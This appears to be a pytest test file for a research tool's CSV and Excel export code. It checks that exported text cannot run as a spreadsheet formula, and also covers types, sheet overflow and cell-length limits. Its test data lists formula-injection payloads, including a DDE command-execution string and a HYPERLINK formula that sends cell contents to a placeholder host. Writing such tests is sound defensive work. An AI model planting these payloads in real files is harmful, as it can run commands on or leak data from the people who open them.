"""What data may do to a spreadsheet: nothing. Each payload is written, and read again by three readers."""

from __future__ import annotations

import csv
import io
import math
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from research.exports.cells import as_json, as_text, csv_cell, is_live
from research.exports.excel_file import write_excel
from research.exports.table import Table
from research.exports.text_files import write_csv

# faults.md X6, and what is known to work in one spreadsheet or another.
LIVE = [
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1"),
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", "\x00=1+1", "\x01=1+1", "=", "-", "--1", "- item"),
    *('=HYPERLINK("http://canary.example/"&A1,"x")', "=cmd|' /C calc'!A0", "@foo", "+cmd|x!A", "\tplain", "\rplain"),
    *("=1\n+1", "=1,2", '="a"', "=1;2", "+49 30 1234"),
]
HARMLESS = ["", "plain", "1+1", "a=b", "-5", "+4.2", "-1e-7", "-.5", "2026-11-22", "'=1+1", "x@y.example", "µΩ²", "'"]
NUMBERS: list[int | float] = [-5, -1.5, 0, 7, 1e300, -2.5e-8, 2**53]


def as_csv(columns: list[str], *rows: list[Any]) -> list[list[str]]:
    target = io.BytesIO()
    write_csv(Table("t", tuple(columns), len(rows), iter(rows)), target)
    return list(csv.reader(io.StringIO(target.getvalue().decode(), newline="")))


def as_excel(folder: Path, columns: list[str], *rows: list[Any], **options: int) -> Path:
    path = folder / "t.xlsx"
    with path.open("wb") as target:
        write_excel(Table("t", tuple(columns), len(rows), iter(rows)), target, folder, **options)
    return path


@pytest.mark.parametrize("text", LIVE)
def test_a_text_that_a_spreadsheet_would_run_is_marked_in_csv_and_nothing_else_of_it_changes(text: str) -> None:
    ((title,), (cell,)) = as_csv([text], [text])
    assert title == cell == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_written_to_csv_as_they_are(text: str) -> None:
    assert not is_live(text)
    assert csv_cell(text) == text


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_numbers_in_csv(number: float) -> None:
    (_, (cell,)) = as_csv(["n"], [number])
    assert float(cell) == number
    assert type(number)(cell) == number


# X6
def test_every_text_is_typed_as_text_in_a_workbook(tmp_path: Path) -> None:
    texts = [text for text in LIVE + HARMLESS if text]
    path = as_excel(tmp_path, texts, texts)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert types <= {"s", "inlineStr"}
    assert not any(cell.hyperlink for row in sheet.iter_rows() for cell in row)
    formulas = CalamineWorkbook.from_path(path).get_sheet_by_index(0)
    # Control characters are spelled _x0001_ in the file, which is what the format asks for.
    assert [without_controls(cell) for cell in formulas.to_python(skip_empty_area=False)[1]] == [
        without_controls(text) for text in texts
    ]


def without_controls(text: Any) -> str:
    for code in (0, 1, 9, 10, 13):
        text = text.replace(f"_x{code:04X}_", "").replace(chr(code), "")
    return str(text)


def test_values_keep_their_types_in_a_workbook(tmp_path: Path) -> None:
    at = datetime(2026, 11, 22, 6, 10, 5, tzinfo=timezone(timedelta(hours=1)))
    row = [*NUMBERS, True, at, None, "text", "12", ["a", "b"], {"a": 1}, math.nan, math.inf, 2**53 + 1]
    sheet = openpyxl.load_workbook(as_excel(tmp_path, list(map(str, range(len(row)))), row)).worksheets[0]
    values = [cell.value for cell in sheet[2]]
    assert values[:7] == NUMBERS
    assert values[7:11] == [True, datetime(2026, 11, 22, 5, 10, 5), None, "text"]  # noqa: DTZ001 - Excel has no zones
    assert values[11:] == ["12", "a; b", '{"a":1}', "nan", "inf", str(2**53 + 1)]


def test_rows_that_do_not_fit_on_a_sheet_go_on_to_the_next(tmp_path: Path) -> None:
    path = as_excel(tmp_path, ["n"], *([n] for n in range(25)), sheet_rows=11)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["t", "t 2", "t 3"]
    rows = [[row[0] for row in sheet.iter_rows(values_only=True)] for sheet in book]
    assert rows == [["n", *range(10)], ["n", *range(10, 20)], ["n", *range(20, 25)]]


@pytest.mark.parametrize("text", ["x" * 40_000, "😀" * 20_000, "é" * 32_768])
def test_a_text_longer_than_a_cell_is_cut_where_one_can_see_it(tmp_path: Path, text: str) -> None:
    path = tmp_path / "t.xlsx"
    with path.open("wb") as target:
        assert write_excel(Table("t", ("a",), 1, iter([[text]])), target, tmp_path) == 1
    value = openpyxl.load_workbook(path).worksheets[0]["A2"].value
    assert value.endswith(f" … [cut: {len(text):,} characters, a cell holds 32,767; take JSON or CSV for all of it]")
    assert 32_760 < len(value.encode("utf-16-le")) // 2 <= 32_767
    assert value[:16_000] == text[:16_000]


def test_characters_that_no_file_can_hold_are_shown_as_unknown(tmp_path: Path) -> None:
    text = "a\ud800b\ufffec"
    assert as_csv(["x"], [text])[1] == ["a\ufffdb\ufffec"]
    assert openpyxl.load_workbook(as_excel(tmp_path, ["x"], [text])).worksheets[0]["A2"].value.startswith("a\ufffdb")
    assert as_json({"x": text}) == '{"x":"a\ufffdb\ufffec"}'.encode()


@pytest.mark.parametrize(
    ("value", "json", "text"),
    [
        (datetime(2026, 11, 22, 5, 10, tzinfo=UTC), b'"2026-11-22T05:10:00Z"', "2026-11-22T05:10:00Z"),
        (math.nan, b"null", "nan"),
        ({"n": 2**70}, b'{"n":"1180591620717411303424"}', '{"n":"1180591620717411303424"}'),
        (["a", "b; c"], b'["a","b; c"]', "a; b; c"),
        (True, b"true", "true"),
        ([], b"[]", "[]"),
    ],
)
def test_values_are_written_in_one_form(value: Any, json: bytes, text: str) -> None:
    assert (as_json(value), as_text(value)) == (json, text)
